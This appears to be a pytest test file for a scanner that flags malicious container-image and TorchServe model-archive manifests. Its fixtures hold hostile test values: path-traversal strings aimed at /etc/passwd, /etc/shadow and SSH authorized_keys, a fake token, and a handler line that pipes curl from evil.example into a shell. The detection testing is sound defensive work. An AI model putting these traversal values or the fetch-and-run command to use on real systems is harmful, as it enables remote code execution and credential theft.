"""Image and archive manifests: OCI layouts and manifests, docker save, TorchServe .mar.

Benign manifests are written by hand after the shapes the real tools write (image-spec examples,
`docker save` of a one-layer image, torch-model-archiver 0.12 MANIFEST.json); malicious variants
are edits of them.
"""

from __future__ import annotations

import copy
import io
import json
import zipfile

import pytest

from shardscan.model import Severity
from tests.findings import only, rules

H1, H2, H3 = "a" * 64, "b" * 64, "c" * 64
SECRET = "ghp_" + "Q1w2E3r4T5y6U7i8O9p0A1s2D3f4G5h6J7k8"

OCI_MANIFEST = {
    "schemaVersion": 2,
    "mediaType": "application/vnd.oci.image.manifest.v1+json",
    "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": f"sha256:{H1}", "size": 7023},
    "layers": [
        {"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", "digest": f"sha256:{H2}", "size": 32654},
        {"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", "digest": f"sha256:{H3}", "size": 16724},
    ],
    "annotations": {"org.opencontainers.image.title": "bert-base", "org.opencontainers.image.version": "1.0"},
}
OCI_INDEX = {
    "schemaVersion": 2,
    "mediaType": "application/vnd.oci.image.index.v1+json",
    "manifests": [{"mediaType": "application/vnd.oci.image.manifest.v1+json", "digest": f"sha256:{H1}",
                   "size": 7143, "platform": {"architecture": "amd64", "os": "linux"},
                   "annotations": {"org.opencontainers.image.ref.name": "latest"}}],
}
DOCKER_SAVE = [{"Config": f"blobs/sha256/{H1}", "RepoTags": ["model-server:latest"],
                "Layers": [f"blobs/sha256/{H2}", f"blobs/sha256/{H3}"]}]
MAR = {
    "createdOn": "01/02/2025 10:11:12",
    "runtime": "python",
    "model": {"modelName": "resnet-18", "serializedFile": "resnet18.pt", "handler": "image_classifier",
              "modelVersion": "1.0"},
    "archiverVersion": "0.12.0",
}


def dump(doc) -> bytes:
    return json.dumps(doc, indent=2).encode()


def mar(manifest: dict, members: dict[str, bytes] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("MAR-INF/MANIFEST.json", dump(manifest))
        for name, data in (members or {}).items():
            z.writestr(name, data)
    return buf.getvalue()


# --- benign -------------------------------------------------------------------------------------


@pytest.mark.parametrize("doc, name", [
    (OCI_MANIFEST, "layout/blobs/sha256/" + H1),
    (OCI_MANIFEST, "manifest.json"),
    (OCI_INDEX, "layout/index.json"),
    (DOCKER_SAVE, "image/manifest.json"),
    (MAR, "resnet/MAR-INF/MANIFEST.json"),
])
def test_benign_manifests_are_clean(scan_bytes, doc, name):
    report = scan_bytes(dump(doc), name)
    assert report.status == "scanned"
    assert not [f for f in report.findings if f.severity >= Severity.WARNING], report.findings


def test_benign_mar_archive(scan_bytes):
    report = scan_bytes(mar(MAR, {"index_to_name.json": b'{"0": "cat"}'}), "resnet-18.mar")
    assert not [f for f in report.findings if f.severity >= Severity.WARNING], report.findings


# --- OCI / Docker -------------------------------------------------------------------------------


def test_foreign_layer_urls(scan_bytes):
    doc = copy.deepcopy(OCI_MANIFEST)
    doc["layers"][0]["urls"] = ["https://evil.example/layer.tar.gz"]
    doc["layers"][0]["mediaType"] = "application/vnd.oci.image.layer.nondistributable.v1.tar+gzip"
    (hit,) = only(scan_bytes(dump(doc), "blobs/sha256/" + H1), "MAN002")
    assert hit.severity == Severity.WARNING and "evil.example" in hit.message


def test_digests(scan_bytes):
    doc = copy.deepcopy(OCI_MANIFEST)
    doc["layers"][0]["digest"] = "sha256:1234"
    doc["layers"][1]["digest"] = "sha256:../../../../etc/passwd"
    report = scan_bytes(dump(doc), "index.json")
    assert only(report, "MAN004")[0].severity == Severity.WARNING
    assert only(report, "MAN003")[0].severity == Severity.CRITICAL


def test_docker_save_paths_escape(scan_bytes):
    doc = copy.deepcopy(DOCKER_SAVE)
    doc[0]["Layers"].append("../../root/.ssh/authorized_keys")
    doc[0]["Config"] = "/etc/shadow"
    hits = only(scan_bytes(dump(doc), "manifest.json"), "MAN003")
    assert len(hits) == 2 and all(h.severity == Severity.CRITICAL for h in hits)


def test_annotation_secret_masked_and_urls(scan_bytes):
    doc = copy.deepcopy(OCI_MANIFEST)
    doc["annotations"]["build.token"] = f"token={SECRET}"
    doc["annotations"]["org.opencontainers.image.source"] = "https://github.com/example/model"
    report = scan_bytes(dump(doc), "index.json")
    (secret,) = only(report, "BIN002")
    assert secret.severity == Severity.WARNING
    assert only(report, "MAN006")[0].severity == Severity.INFO
    for f in report.findings:
        assert SECRET[4:] not in f.message and SECRET[4:] not in str(dict(f.evidence))


def test_malformed_manifests(scan_bytes):
    bad = copy.deepcopy(OCI_MANIFEST)
    bad["layers"] = {"not": "a list"}
    bad["config"]["size"] = -1
    report = scan_bytes(dump(bad), "index.json")
    assert only(report, "MAN001")[0].severity == Severity.WARNING
    assert "MAN001" in rules(scan_bytes(b'{"schemaVersion": 2, "layers": [', "manifest.json"))
    assert "MAN001" in rules(scan_bytes(dump({"schemaVersion": 1, "layers": []}), "index.json"))
    assert "MAN001" in rules(scan_bytes(dump([{"Layers": 5}]), "manifest.json"))
    assert "MAN001" in rules(scan_bytes(dump({"model": "x"}), "MAR-INF/MANIFEST.json"))
    deep = b'{"schemaVersion": 2, "layers": [], "annotations": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    assert "MAN001" in rules(scan_bytes(deep, "index.json"))


def test_plain_json_named_manifest_is_not_judged(scan_bytes):
    # A config that happens to be called manifest.json (web app manifests, HF files) stays a config.
    report = scan_bytes(dump({"name": "app", "icons": []}), "manifest.json")
    assert not any(f.rule_id.startswith("MAN") for f in report.findings)


# --- TorchServe ---------------------------------------------------------------------------------


def test_custom_handler_and_requirements(scan_bytes):
    doc = copy.deepcopy(MAR)
    doc["model"].update(handler="my_handler.py", modelFile="model.py", requirementsFile="requirements.txt")
    report = scan_bytes(dump(doc), "MAR-INF/MANIFEST.json")
    assert only(report, "MAN007")[0].severity == Severity.INFO
    assert only(report, "MAN008")[0].severity == Severity.WARNING
    builtin = copy.deepcopy(MAR)
    builtin["model"]["handler"] = "ts.torch_handler.object_detector"
    assert "MAN007" not in rules(scan_bytes(dump(builtin), "x/MAR-INF/MANIFEST.json"))


def test_torchserve_paths_escape(scan_bytes):
    for key in ("serializedFile", "modelFile", "handler"):
        doc = copy.deepcopy(MAR)
        doc["model"][key] = "../../../tmp/evil.py" if key != "serializedFile" else "/etc/passwd"
        hits = only(scan_bytes(dump(doc), f"{key}/MAR-INF/MANIFEST.json"), "MAN003")
        assert hits[0].severity == Severity.CRITICAL, key


def test_torchserve_runtime(scan_bytes):
    doc = dict(MAR, runtime="LSP")
    assert only(scan_bytes(dump(doc), "MAR-INF/MANIFEST.json"), "MAN009")[0].severity == Severity.INFO


def test_mar_archive_manifest_is_read_and_handler_scanned(scan_bytes):
    doc = copy.deepcopy(MAR)
    doc["model"].update(handler="handler.py", requirementsFile="requirements.txt")
    handler = b"import os\nos.system('curl https://evil.example | sh')\n"
    report = scan_bytes(mar(doc, {"handler.py": handler, "requirements.txt": b"evilpkg==1.0\n"}), "m.mar")
    assert {"MAN007", "MAN008"} <= rules(report)
    assert any(f.severity == Severity.CRITICAL or f.rule_id.startswith("CFG") for f in report.findings
               if "handler.py" in f.location)
